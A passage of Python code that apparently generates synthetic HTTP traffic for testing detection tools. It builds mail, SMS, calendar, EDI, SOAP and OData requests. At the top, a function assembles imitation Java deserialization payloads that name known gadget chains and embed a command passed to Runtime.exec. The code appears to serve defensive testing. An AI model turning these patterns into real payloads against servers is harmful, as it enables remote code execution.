                    "javax.xml.transform.Templates", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
                    "f5a5a608"],
        "ROME": ["com.sun.syndication.feed.impl.ObjectBean", "com.sun.syndication.feed.impl.ToStringBean",
                 "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "getOutputProperties"],
        "C3P0": ["com.mchange.v2.c3p0.PoolBackedDataSource",
                 "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase",
                 "com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized",
                 "javax.naming.Reference", "ExploitObj"],
        "Hibernate1": ["java.util.HashMap", "org.hibernate.engine.spi.TypedValue",
                       "org.hibernate.type.ComponentType", "org.hibernate.tuple.component.PojoComponentTuplizer",
                       "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"],
    }[chain]
    out = b"\xac\xed\x00\x05"
    for c in classes:
        out += jser_class(c) + rbytes(r, 8) + b"\x02\x00" + bytes([r.randint(1, 4)]) + b"L\x00\x0bmemberValuet\x00\x12Ljava/lang/Object;"
    cb = cmd.encode()
    out += b"t\x00" + bytes([len(cb)]) + cb + b"xq\x00~\x00\x01x"
    if "TemplatesImpl" in " ".join(classes):
        out += b"ur\x00\x03[[B" + rbytes(r, 8) + b"\xca\xfe\xba\xbe\x00\x00\x00\x32" + rbytes(r, 60) + \
            b"java/lang/Runtime\x01\x00\x04exec" + cb
    return out


def jsf_viewstate_server(r):
    return "%d:%d" % (r.randint(-9 * 10 ** 18, 9 * 10 ** 18), r.randint(-2 ** 31, 2 ** 31))


def jsf_viewstate_client(r):
    return b64(rbytes(r, r.choice([180, 320, 600, 1100])))


# --------------------------------------------------------------------------
# e-mail over HTTP (SendGrid Inbound Parse, Mailgun routes)
# --------------------------------------------------------------------------

MAIL_SUBJECTS = [
    "RE: PO 4500012345 – revised delivery date", "Invoice INV-2024-00871 attached",
    "FW: Q3 forecast (final v3)", "Out of office: back Monday 15 Jan",
    "Your ticket #48213 has been updated", "Meeting notes – vendor onboarding",
    "Änderung der Lieferadresse", "Re: Re: select a date for the offsite?",
    "Payment remittance advice – ACH 20240112", "[EXTERNAL] Contract renewal – O'Hara Logistics",
    "Reminder: timesheets due Friday 5pm", "Drop-off instructions for returns",
    "Delivery failed: update your shipping details", "Re: Issue with login -- urgent",
    "Confirmation: Booking #A7X9Q (2 nights)", "Rechnung Nr. 2024-1187 / Kundennr. 30042",
]

MAIL_TEXTS = [
    "Hi {first},\n\nPlease find the updated PO attached. The delivery date moved to {date}; "
    "let me know if that doesn't work for the plant.\n\nThanks & regards,\n{sender}\n-- \n{company}\nTel. +49 6227 7-47474",
    "Hello,\n\nWe can drop the old pallets at dock 3 and select new ones from the yard. "
    "Is 8:00-10:00 OK?\n\nBest,\n{sender}",
    "Hi team,\n\nQ3 numbers: revenue +4.2%, OPEX -1.1% vs. plan. Details in the deck (slide 7/12).\n"
    "Questions -> me or {first}.\n\n{sender}",
    "Guten Tag,\n\nbitte ändern Sie die Lieferadresse auf: Hauptstraße 12, 69190 Walldorf.\n\n"
    "Mit freundlichen Grüßen\n{sender}",
    "Thanks {first} - yes, 1 = approved, 0 = rejected in the export. I'll update the mapping.\n\n"
    "On Tue, Jan 9, 2024 at 10:14 AM {sender} <{addr}> wrote:\n> Can you confirm the flags?\n> Thanks",
    "Dear Customer,\n\nYour order #{num} has shipped. Track it here: https://track.example.com/{num}?ref=mail\n\nKind regards",
    "I'm out of the office until {date} with limited access to e-mail. For urgent matters contact {first} ({addr}).",
    "Please remit to:\nIBAN DE89 3704 0044 0532 0130 00\nBIC COBADEFFXXX\nRef: INV-{num} / {company}",
]


def mail_html(r, text, marketing=False):
    paras = "".join("<p style=\"margin:0 0 12px 0;font-family:Calibri,Arial,sans-serif;font-size:11pt\">%s</p>"
                    % xml_esc(p).replace("\n", "<br>") for p in text.split("\n\n"))
    if marketing:
        return ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
                '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n'
                '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" '
                'xmlns:o="urn:schemas-microsoft-com:office:office"><head>'
                '<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">'
                '<meta name="viewport" content="width=device-width, initial-scale=1.0">'
                '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96</o:PixelsPerInch>'
                '</o:OfficeDocumentSettings></xml><![endif]-->'
                '<style type="text/css">body{margin:0;padding:0}table,td{border-collapse:collapse;mso-table-lspace:0pt;mso-table-rspace:0pt}'
                'img{border:0;outline:none;-ms-interpolation-mode:bicubic}@media only screen and (max-width:480px){.col{width:100%!important}}</style>'
                '</head><body style="background-color:#f4f4f4">'
                '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">'
                '<!--[if mso]><table role="presentation" width="600"><tr><td><![endif]-->'
                '<img src="https://cdn.mail.example.com/img/logo.png" width="160" alt="Logo" style="display:block">'
                + paras +
                '<a href="https://links.example.com/ls/click?upn=%s" style="background:#0a6ed1;color:#fff;padding:10px 18px;text-decoration:none">View online</a>'
                '<!--[if mso]></td></tr></table><![endif]-->'
                '<img src="https://links.example.com/wf/open?upn=%s" width="1" height="1" alt="" style="display:none">'
                '</td></tr></table></body></html>' % (b64url(rbytes(r, 48)), b64url(rbytes(r, 40))))
    return ('<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">'
            '<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style><!--\n'
            '/* Font Definitions */ @font-face {font-family:"Cambria Math";panose-1:2 4 5 3 5 4 6 3 2 4;}\n'
            'p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;}\n'
            '--></style></head><body lang="EN-US" link="#0563C1" vlink="#954F72"><div class="WordSection1">'
            + paras + '<p class="MsoNormal"><o:p>&nbsp;</o:p></p></div></body></html>')


def mail_headers_block(r, frm, to, subject, msgid_dom="mail.gmail.com"):
    ip = "209.85.%d.%d" % (r.randint(128, 222), r.randint(1, 254))
    return crlf(
        "Received: by mx0047p1las1.sendgrid.net with SMTP id %s Thu, 11 Jan 2024 14:%02d:%02d +0000 (UTC)\n"
        "Received: from mail-sor-f41.google.com (mail-sor-f41.google.com [%s]) by mx0047p1las1.sendgrid.net (Postfix) with ESMTPS id %s for <%s>; Thu, 11 Jan 2024 14:%02d:%02d +0000 (UTC)\n"
        "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=gmail.com; s=20230601; t=1704982%03d; x=1705587%03d; darn=inbound.corp.example;\n"
        " h=to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to;\n"
        " bh=%s;\n b=%s\n"
        "MIME-Version: 1.0\n"
        "From: %s\nDate: Thu, 11 Jan 2024 15:%02d:%02d +0100\n"
        "Message-ID: <CA+%s@%s>\nSubject: %s\nTo: %s\n"
        "Content-Type: multipart/alternative; boundary=\"0000000000%s\"\n"
        % (ralnum(r, 22), r.randint(0, 59), r.randint(0, 59), ip, rHEX(r, 10), to, r.randint(0, 59), r.randint(0, 59),
           r.randint(0, 999), r.randint(0, 999), b64(rbytes(r, 32)), wrap(b64(rbytes(r, 256)), 70, "\n        "),
           frm, r.randint(0, 59), r.randint(0, 59), ralnum(r, 40), msgid_dom, subject, to, rhex(r, 16)))


def sendgrid_inbound(r, frm, to, subject, text, html, attachments=(), extra_fields=()):
    bnd = "xYzZY"
    parts = [fd_field("headers", mail_headers_block(r, frm, to, subject)),
             fd_field("dkim", "{@gmail.com : pass}"),
             fd_field("to", to), fd_field("from", frm), fd_field("text", crlf(text))]
    if html is not None:
        parts.append(fd_field("html", html))
    parts += [fd_field("sender_ip", "209.85.%d.%d" % (r.randint(128, 222), r.randint(1, 254))),
              fd_field("envelope", json.dumps({"to": [to.split("<")[-1].rstrip(">")],
                                               "from": frm.split("<")[-1].rstrip(">")})),
              fd_field("attachments", str(len(attachments))),
              fd_field("subject", subject),
              fd_field("charsets", json.dumps({"to": "UTF-8", "html": "UTF-8", "subject": "UTF-8",
                                               "from": "UTF-8", "text": "UTF-8"})),
              fd_field("SPF", "pass")]
    if attachments:
        info = {}
        for i, (fn, ct, content) in enumerate(attachments, 1):
            info["attachment%d" % i] = {"filename": fn, "name": fn, "type": ct}
            parts.append(fd_file("attachment%d" % i, fn, ct, content))
        parts.append(fd_field("attachment-info", json.dumps(info)))
    parts += [fd_field(k, v) for k, v in extra_fields]
    body = multipart(parts, bnd)
    headers = [["User-Agent", "Sendlib/1.0 mx0047p1las1.sendgrid.net"],
               ["Content-Type", "multipart/form-data; boundary=" + bnd],
               ["Accept-Encoding", "gzip"]]
    return body, headers


def mailgun_inbound(r, frm, to, subject, text, html, extra=()):
    ts = str(1704980000 + r.randint(0, 99999))
    token = rhex(r, 50)
    sig = hashlib.sha256((ts + token).encode()).hexdigest()
    mh = [["Received", "from mail-ed1-f44.google.com (mail-ed1-f44.google.com [209.85.208.44]) by mxa.mailgun.org with ESMTP id %s; Thu, 11 Jan 2024 14:20:11 -0000 (UTC)" % rhex(r, 24)],
          ["From", frm], ["To", to], ["Subject", subject], ["Mime-Version", "1.0"],
          ["Content-Type", "multipart/alternative; boundary=\"%s\"" % rhex(r, 28)],
          ["Message-Id", "<%s@mail.gmail.com>" % ralnum(r, 36)], ["X-Envelope-From", "<%s>" % frm.split("<")[-1].rstrip(">")]]
    pairs = [("recipient", to), ("sender", frm.split("<")[-1].rstrip(">")), ("from", frm), ("subject", subject),
             ("body-plain", text), ("stripped-text", text.split("\n-- \n")[0]),
             ("stripped-signature", ""), ]
    if html is not None:
        pairs += [("body-html", html), ("stripped-html", html)]
    pairs += [("attachment-count", "0"), ("timestamp", ts), ("token", token), ("signature", sig),
              ("message-headers", json.dumps(mh)), ("Content-Type", mh[5][1])]
    pairs += list(extra)
    headers = [["User-Agent", "mailgun/treq-22.2.0"], ["Content-Type", "application/x-www-form-urlencoded"],
               ["Accept-Encoding", "gzip"]]
    return form(pairs), headers


# --------------------------------------------------------------------------
# Twilio-style webhooks
# --------------------------------------------------------------------------

def phone_us(r):
    return "+1%d%03d%04d" % (r.choice([212, 312, 404, 415, 512, 617, 646, 702, 808, 919]), r.randint(200, 999), r.randint(0, 9999))


def twilio_sms(r, body, num_media=0, extra=()):
    sid = "SM" + rhex(r, 32)
    frm, to = phone_us(r), phone_us(r)
    pairs = [("ToCountry", "US"), ("ToState", "CA"), ("SmsMessageSid", sid), ("NumMedia", str(num_media)),
             ("ToCity", "SAN FRANCISCO"), ("FromZip", "%05d" % r.randint(10000, 99999)), ("SmsSid", sid),
             ("FromState", r.choice(["NY", "IL", "GA", "TX", "MA"])), ("SmsStatus", "received"),
             ("FromCity", r.choice(["NEW YORK", "CHICAGO", "ATLANTA", "AUSTIN", "BOSTON"])), ("Body", body),
             ("FromCountry", "US"), ("To", to), ("MessagingServiceSid", "MG" + rhex(r, 32)), ("ToZip", "94105"),
             ("NumSegments", str(1 + len(body) // 153)), ("ReferralNumMedia", "0"), ("MessageSid", sid),
             ("AccountSid", "AC" + rhex(r, 32)), ("From", frm), ("ApiVersion", "2010-04-01")]
    for i in range(num_media):
        pairs += [("MediaContentType%d" % i, "image/jpeg"),
                  ("MediaUrl%d" % i, "https://api.twilio.com/2010-04-01/Accounts/AC%s/Messages/%s/Media/ME%s" % (rhex(r, 32), sid, rhex(r, 32)))]
    pairs += list(extra)
    return form(pairs), twilio_headers(r)


def twilio_headers(r):
    return [["User-Agent", "TwilioProxy/1.1"], ["Content-Type", "application/x-www-form-urlencoded"],
            ["Accept", "*/*"], ["X-Twilio-Signature", b64(rbytes(r, 20))],
            ["I-Twilio-Idempotency-Token", ruuid(r)], ["X-Home-Region", "us1"]]


def twilio_voice(r, status="ringing", extra=()):
    pairs = [("AccountSid", "AC" + rhex(r, 32)), ("ApiVersion", "2010-04-01"), ("CallSid", "CA" + rhex(r, 32)),
             ("CallStatus", status), ("Called", phone_us(r)), ("CalledCity", "SAN FRANCISCO"), ("CalledCountry", "US"),
             ("CalledState", "CA"), ("CalledZip", "94105"), ("Caller", phone_us(r)), ("CallerCity", "CHICAGO"),
             ("CallerCountry", "US"), ("CallerState", "IL"), ("CallerZip", "60601"), ("Direction", "inbound"),
             ("From", phone_us(r)), ("To", phone_us(r))]
    pairs += list(extra)
    return form(pairs), twilio_headers(r)


# --------------------------------------------------------------------------
# calendar / contacts
# --------------------------------------------------------------------------

def ics_escape(s):
    return s.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")


def ics_fold(line):
    b = line
    out = []
    while len(b) > 75:
        out.append(b[:75])
        b = " " + b[75:]
    out.append(b)
    return "\r\n".join(out)


def vevent(r, summary, description, location="", attendees=(), extra_lines=(), organizer=None, uid=None):
    uid = uid or "%s@corp.example" % ruuid(r)
    start = ics_ts(r)
    lines = ["BEGIN:VCALENDAR", "PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN", "VERSION:2.0",
             "METHOD:REQUEST", "BEGIN:VTIMEZONE", "TZID:W. Europe Standard Time", "BEGIN:STANDARD",
             "DTSTART:16011028T030000", "RRULE:FREQ=YEARLY;BYDAY=-1SU;BYMONTH=10", "TZOFFSETFROM:+0200",
             "TZOFFSETTO:+0100", "END:STANDARD", "BEGIN:DAYLIGHT", "DTSTART:16010325T020000",
             "RRULE:FREQ=YEARLY;BYDAY=-1SU;BYMONTH=3", "TZOFFSETFROM:+0100", "TZOFFSETTO:+0200",
             "END:DAYLIGHT", "END:VTIMEZONE", "BEGIN:VEVENT"]
    if organizer:
        lines.append('ORGANIZER;CN="%s":mailto:%s' % organizer)
    for cn, mail in attendees:
        lines.append('ATTENDEE;CN="%s";ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:%s' % (cn, mail))
    lines += ["DESCRIPTION;LANGUAGE=en-US:" + ics_escape(description),
              "UID:" + uid, "SUMMARY;LANGUAGE=en-US:" + ics_escape(summary),
              "DTSTART;TZID=W. Europe Standard Time:%s" % start[:-1].replace("Z", ""),
              "DTEND;TZID=W. Europe Standard Time:%s" % start[:-1].replace("Z", ""),
              "CLASS:PUBLIC", "PRIORITY:5", "DTSTAMP:" + ics_ts(r), "TRANSP:OPAQUE", "STATUS:CONFIRMED",
              "SEQUENCE:%d" % r.randint(0, 3), "LOCATION;LANGUAGE=en-US:" + ics_escape(location)]
    lines += list(extra_lines)
    lines += ["BEGIN:VALARM", "DESCRIPTION:REMINDER", "TRIGGER;RELATED=START:-PT15M", "ACTION:DISPLAY",
              "END:VALARM", "END:VEVENT", "END:VCALENDAR"]
    return "\r\n".join(ics_fold(l) for l in lines) + "\r\n"


def vcard(r, first, last, org, title, note="", extra=()):
    mail = email_of(first, last, r.choice(["contoso.com", "fabrikam.de", "corp.example"]))
    lines = ["BEGIN:VCARD", "VERSION:3.0", "N:%s;%s;;;" % (last, first), "FN:%s %s" % (first, last),
             "ORG:%s;%s" % (org.replace(";", "\\;"), r.choice(DEPTS)), "TITLE:" + title,
             "TEL;TYPE=WORK,VOICE:+49 6227 7-%05d" % r.randint(0, 99999),
             "TEL;TYPE=CELL:+1 (%d) %03d-%04d" % (r.choice([212, 415, 617]), r.randint(200, 999), r.randint(0, 9999)),
             "EMAIL;TYPE=INTERNET,PREF:" + mail,
             "ADR;TYPE=WORK:;;%d %s;%s;;%05d;%s" % (r.randint(1, 200), r.choice(["Dietmar-Hopp-Allee", "Main St.", "Rue de Rivoli", "Königsallee"]),
                                                   r.choice(CITIES), r.randint(10000, 99999), r.choice(["Germany", "USA", "France"]))]
    if note:
        lines.append("NOTE:" + note.replace("\n", "\\n").replace(",", "\\,"))
    lines += list(extra)
    lines += ["REV:" + iso_ts(r), "END:VCARD"]
    return "\r\n".join(ics_fold(l) for l in lines) + "\r\n"


CALDAV_CLIENTS = ["DAVx5/4.3.11-ose (2024/01/05; dav4jvm; okhttp/4.12.0) Android/14",
                  "macOS/14.2.1 (23C71) CalendarAgent/988", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Thunderbird/115.6.0",
                  "iOS/17.2 (21C62) dataaccessd/1.0", "Evolution/3.50.2"]


# --------------------------------------------------------------------------
# EDI
# --------------------------------------------------------------------------

def x12_850(r, po, lines_n=3, note=None):
    d = "2401%02d" % r.randint(1, 28)
    ctrl = "%09d" % r.randint(1, 999999999)
    segs = ["ISA*00*          *00*          *ZZ*%-15s*ZZ*%-15s*%s*%02d%02d*U*00401*%s*0*P*>" %
            (r.choice(["ACMEBUYER", "WALMART", "TARGETCORP", "6123456789"]), "CORPSUPPLIER", d, r.randint(0, 23), r.randint(0, 59), ctrl),
            "GS*PO*%s*CORPSUPPLIER*20%s*%02d%02d*%d*X*004010" % ("ACMEBUYER", d, r.randint(0, 23), r.randint(0, 59), r.randint(1, 9999)),
            "ST*850*0001", "BEG*00*SA*%s**20%s" % (po, d), "REF*DP*%03d" % r.randint(1, 999), "REF*IA*%07d" % r.randint(0, 9999999),
            "DTM*002*2024%02d%02d" % (r.randint(1, 12), r.randint(1, 28)),
            "N1*ST*%s*92*%04d" % (r.choice(COMPANIES).upper().replace("*", " "), r.randint(1, 9999)),
            "N3*%d INDUSTRIAL PKWY" % r.randint(1, 9999), "N4*%s*GA*30301*US" % "ATLANTA"]
    if note:
        segs.append("MSG*" + note)
    for i in range(lines_n):
        segs += ["PO1*%d*%d*EA*%.2f**UP*%012d*VN*%s" % (i + 1, r.randint(1, 500), r.uniform(1, 400), r.randint(0, 10 ** 12 - 1), ralnum(r, 8, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789")),
                 "PID*F****%s" % r.choice(MATERIALS).upper().replace("*", "X")]
    segs += ["CTT*%d" % lines_n, "SE*%d*0001" % (len(segs) - 1), "GE*1*1", "IEA*1*%s" % ctrl]
    return "~\n".join(segs) + "~\n"


def edifact_orders(r, po, free_text=None):
    d = "2401%02d" % r.randint(1, 28)
    segs = ["UNA:+.? '", "UNB+UNOC:3+%s:14+4012345000009:14+%s:%02d%02d+%d" % (r.choice(["4000001000005", "5412345000013"]), d, r.randint(0, 23), r.randint(0, 59), r.randint(1, 99999)),
            "UNH+1+ORDERS:D:96A:UN:EAN008", "BGM+220+%s+9" % po, "DTM+137:20%s:102" % d,
            "DTM+2:2024%02d%02d:102" % (r.randint(1, 12), r.randint(1, 28)),
            "NAD+BY+4000001000005::9++%s" % r.choice(["MUELLER UND SOEHNE KG", "O?'HARA LOGISTICS", "ACME GMBH"]),
            "NAD+SU+4012345000009::9", "CUX+2:EUR:9"]
    if free_text:
        segs.append("FTX+AAI+++" + free_text)
    n = r.randint(1, 4)
    for i in range(n):
        segs += ["LIN+%d++%013d:EN" % (i + 1, r.randint(0, 10 ** 13 - 1)), "QTY+21:%d" % r.randint(1, 200),
                 "PRI+AAA:%.2f" % r.uniform(1, 300)]
    segs += ["UNS+S", "CNT+2:%d" % n, "UNT+%d+1" % (len(segs) - 1), "UNZ+1+%d" % r.randint(1, 99999)]
    return "'\n".join(segs) + "'\n"


def as2_headers(r, ctype, frm="ACMEBUYER_AS2", to="CORPSUPPLIER", extra=()):
    h = [["User-Agent", r.choice(["RSSBus Web/21.0.8137", "Mendelson AS2 1.1 build 55", "OpenAS2 Server v2.14.0",
                                  "Cleo Harmony 5.7.0.4", "IBM Sterling B2B Integrator"])],
         ["AS2-Version", "1.2"], ["AS2-From", frm], ["AS2-To", to],
         ["Message-ID", "<%s@%s>" % (ralnum(r, 28), frm.lower())],
         ["Subject", "EDI message"], ["Date", "Thu, 11 Jan 2024 14:%02d:%02d GMT" % (r.randint(0, 59), r.randint(0, 59))],
         ["Mime-Version", "1.0"], ["Content-Type", ctype],
         ["Disposition-Notification-To", "edi@%s" % r.choice(["acme-buyer.example", "partner.example"])],
         ["Disposition-Notification-Options", "signed-receipt-protocol=optional, pkcs7-signature; signed-receipt-micalg=optional, sha-256"],
         ["EDIINT-Features", "multiple-attachments, CEM"]]
    h += [list(x) for x in extra]
    return h


# --------------------------------------------------------------------------
# OData
# --------------------------------------------------------------------------

def ui5_headers(r, method="GET", token=None, v4=False):
    h = [["User-Agent", r.choice(UA_BROWSERS)],
         ["Accept", "application/json"],
         ["Accept-Language", r.choice(["en-US", "de-DE", "fr-FR", "EN", "DE"])],
         ["X-Requested-With", "XMLHttpRequest"]]
    if v4:
        h += [["OData-Version", "4.0"], ["OData-MaxVersion", "4.0"]]
    else:
        h += [["MaxDataServiceVersion", "2.0"], ["DataServiceVersion", "2.0"]]
    h.append(["X-CSRF-Token", token or ("Fetch" if method == "GET" else csrf_token(r))])
    h += [["sap-contextid-accept", "header"], ["sap-cancel-on-close", "true"],
          ["Referer", "https://fiori.corp.example/sap/bc/ui2/flp?sap-client=100&sap-language=EN"],
          ["Cookie", sap_cookie(r)]]
    return h


def odata_uri(service, entity, params, v4=False):
    base = ("/sap/opu/odata4/sap/%s/srvd/sap/%s/0001/" % (service.lower(), service.lower())) if v4 \
        else "/sap/opu/odata/sap/%s/" % service
    s = base + entity
    if params:
        s += "?" + "&".join("%s=%s" % (k, euc(v)) for k, v in params)
    return s


# ==========================================================================
# BENIGN: ordinary traffic
# ==========================================================================

def b_soap(c):
    r = rng("b_soap")
    add = B(c, "soap", "soap")
    ops = [
        ("http://sap.com/xi/SAPGlobal20/Global/CustomerERPByIDQueryResponse_In", "/sap/bc/srt/rfc/sap/ecc_customer001qr/100/customer/binding",
         lambda: '<n0:CustomerERPByIDQuery_sync xmlns:n0="http://sap.com/xi/SAPGlobal20/Global"><CustomerSelectionByID><CustomerID>%010d</CustomerID></CustomerSelectionByID></n0:CustomerERPByIDQuery_sync>' % r.randint(1, 99999)),
        ("urn:GetOrderStatus", "/OrderService/OrderService.asmx",
         lambda: '<GetOrderStatus xmlns="http://tempuri.org/"><orderNumber>SO-%d</orderNumber><includeLines>true</includeLines></GetOrderStatus>' % r.randint(100000, 999999)),
        ("http://tempuri.org/IPricingService/GetPrice", "/Services/PricingService.svc",
         lambda: '<GetPrice xmlns="http://tempuri.org/"><request xmlns:a="http://schemas.datacontract.org/2004/07/Pricing" xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><a:Currency>EUR</a:Currency><a:CustomerId>%d</a:CustomerId><a:Material>%s</a:Material><a:Quantity>%d</a:Quantity></request></GetPrice>'
         % (r.randint(1000, 9999), xml_esc(r.choice(MATERIALS)), r.randint(1, 500))),
        ("CreateCustomer", "/ws/CustomerService",
         lambda: '<cus:CreateCustomer xmlns:cus="http://corp.example/ws/customer/v2"><cus:Name>%s</cus:Name><cus:Contact>%s %s</cus:Contact><cus:Street>%d %s</cus:Street><cus:City>%s</cus:City><cus:Notes><![CDATA[Delivery via gate 2 & ring the bell; "fragile" items <= 20kg]]></cus:Notes></cus:CreateCustomer>'
         % ((xml_esc(r.choice(COMPANIES)),) + tuple(xml_esc(x) for x in person(r)) + (r.randint(1, 400), "Industriestraße", r.choice(CITIES)))),
        ("http://schemas.microsoft.com/exchange/services/2006/messages/FindItem", "/EWS/Exchange.asmx",
         lambda: '<m:FindItem Traversal="Shallow" xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types"><m:ItemShape><t:BaseShape>IdOnly</t:BaseShape><t:AdditionalProperties><t:FieldURI FieldURI="item:Subject"/><t:FieldURI FieldURI="calendar:Start"/></t:AdditionalProperties></m:ItemShape><m:CalendarView MaxEntriesReturned="%d" StartDate="2024-01-01T00:00:00Z" EndDate="2024-01-31T23:59:59Z"/><m:ParentFolderIds><t:DistinguishedFolderId Id="calendar"/></m:ParentFolderIds></m:FindItem>' % r.choice([50, 100, 250])),
        ("urn:oasis:names:tc:SAML:2.0:profiles:SSO", "/idp/profile/SAML2/SOAP/ArtifactResolution",
         lambda: '<samlp:ArtifactResolve xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0" IssueInstant="%s"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://sp.corp.example/shibboleth</saml:Issuer><samlp:Artifact>%s</samlp:Artifact></samlp:ArtifactResolve>' % (rhex(r, 32), iso_ts(r), b64(rbytes(r, 44)))),
        ("http://xmlns.oracle.com/apps/hcm/employment/core/findWorker", "/hcmEmploymentCoreApiWorkerV2/WorkerService",
         lambda: '<typ:findWorker xmlns:typ="http://xmlns.oracle.com/apps/hcm/employment/core/workerServiceV2/types/"><typ:findCriteria><fetchStart>0</fetchStart><fetchSize>%d</fetchSize><filter><group><item><attribute>PersonNumber</attribute><operator>=</operator><value>%d</value></item></group></filter></typ:findCriteria></typ:findWorker>' % (r.choice([10, 25, 100]), r.randint(1000, 99999))),
        ("http://siebel.com/CustomUI/ServiceRequest:QueryById", "/eai_enu/start.swe?SWEExtSource=WebService&SWEExtCmd=Execute&WSSOAP=1",
         lambda: '<cus:ServiceRequestQueryById_Input xmlns:cus="http://siebel.com/CustomUI"><cus:PrimaryRowId>1-%s</cus:PrimaryRowId></cus:ServiceRequestQueryById_Input>' % ralnum(r, 5, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")),
        ("urn:PeopleSoft:CI_PERSONAL_DATA.V1:Get", "/PSIGW/PeopleSoftServiceListeningConnector/PSFT_HR",
         lambda: '<Get__CompIntfc__CI_PERSONAL_DATA xmlns="http://xmlns.oracle.com/Enterprise/Tools/schemas/M985512.V1"><KEYPROP_EMPLID>KU%04d</KEYPROP_EMPLID></Get__CompIntfc__CI_PERSONAL_DATA>' % r.randint(1, 9999)),
        ("http://www.domino.example/ws/PhoneBook/lookup", "/apps/phonebook.nsf/PhoneBook?OpenWebService",
         lambda: '<ns1:LOOKUP xmlns:ns1="urn:DefaultNamespace"><NAME>%s</NAME></ns1:LOOKUP>' % xml_esc(" ".join(person(r)))),
        ("urn:SubmitTimesheet", "/TimeService/Timesheet.asmx",
         lambda: '<SubmitTimesheet xmlns="http://corp.example/time"><week>2024-W%02d</week><entries><entry project="P-%d" hours="7.5" comment="Workshop prep &amp; follow-up"/><entry project="P-%d" hours="0.5" comment="1:1"/></entries></SubmitTimesheet>' % (r.randint(1, 52), r.randint(1000, 9999), r.randint(1000, 9999))),
    ]
    for i in range(36):
        action, path, fn = ops[i % len(ops)]
        ver = "1.2" if r.random() < 0.3 else "1.1"
        hdr = ""
        if r.random() < 0.6:
            hdr += wsse_header(r, "username" if r.random() < 0.6 else "x509")
        if r.random() < 0.5:
            reply = "http://www.w3.org/2005/08/addressing/anonymous" if r.random() < 0.7 else \
                "https://b2b.partner.example/ws/callback/%s" % r.choice(["orders", "invoices", "AsyncResponse"])
            hdr += wsa_header(r, action, "https://api.corp.example" + path, reply)
        body = soap(r, fn(), ver, hdr)
        add("POST", path, soap_headers(r, action, ver), body, host="api.corp.example")
    # WSDL / disco fetches
    for path in ["/OrderService/OrderService.asmx?WSDL", "/Services/PricingService.svc?singleWsdl",
                 "/sap/bc/srt/wsdl/flv_10002A111AD1/bndg_url/sap/bc/srt/rfc/sap/ecc_customer001qr/100/customer/binding?sap-client=100",
                 "/Services/PricingService.svc?xsd=xsd0", "/OrderService/OrderService.asmx?op=GetOrderStatus"]:
        add("GET", path, [["User-Agent", r.choice(SOAP_CLIENTS)], ["Accept", "text/xml, */*"]], host="api.corp.example")


def b_odata(c):
    r = rng("b_odata")
    add = B(c, "odata", "odata")
    services = [("ZSD_SALES_ORDER_SRV", "SalesOrderSet"), ("API_BUSINESS_PARTNER", "A_BusinessPartner"),
                ("MM_PUR_PO_MAINT_V2_SRV", "C_PurchaseOrderTP"), ("HCM_LEAVE_REQ_CREATE_SRV", "LeaveRequestCollection"),
                ("FAC_FINANCIAL_DOCUMENT_SRV_01", "Headers"), ("ZPM_NOTIFICATION_SRV", "NotificationSet"),
                ("API_PRODUCT_SRV", "A_Product"), ("SRA018_SO_TRACKING_SRV", "SalesOrders")]
    filters = [
        lambda: "CustomerName eq '%s'" % r.choice(LAST).replace("'", "''"),
        lambda: "substringof('%s',SearchTerm1) eq true" % r.choice(["Müller", "O''Hara", "ACME", "logist"]),
        lambda: "CreatedOn ge datetime'2024-01-01T00:00:00' and CreatedOn le datetime'2024-03-31T23:59:59'",
        lambda: "(Status eq 'A' or Status eq 'B') and SalesOrg eq '1010'",
        lambda: "startswith(BusinessPartnerName,'%s') and BusinessPartnerCategory eq '2'" % r.choice(["Ac", "Mü", "O''N", "St. "]),
        lambda: "NetAmount gt %d.00 and Currency eq 'EUR'" % r.randint(100, 50000),
        lambda: "Plant eq '%04d' and MaterialType ne 'DIEN'" % r.randint(1000, 1999),
        lambda: "DeletionIndicator eq false and PurchasingGroup eq '0%02d'" % r.randint(1, 99),
        lambda: "EmployeeID eq '%08d' and (LeaveType eq '0100' or LeaveType eq '0200')" % r.randint(1, 99999999),
        lambda: "Priority le 2 and NotificationType eq 'M1' and not (Status eq 'CLSD')",
    ]
    for i in range(30):
        svc, ent = services[i % len(services)]
        v4 = r.random() < 0.25
        params = []
        if r.random() < 0.85:
            params.append(("$filter", r.choice(filters)()))
        if r.random() < 0.5:
            params.append(("$expand", r.choice(["to_Item", "to_Item,to_Partner", "ToLineItems/ToScheduleLines", "to_BusinessPartnerAddress/to_EmailAddress"])))
        if r.random() < 0.6:
            params.append(("$select", r.choice(["SalesOrder,SoldToParty,NetAmount,Currency", "BusinessPartner,BusinessPartnerName",
                                                "NotificationNo,ShortText,Priority,CreatedOn", "*"])))
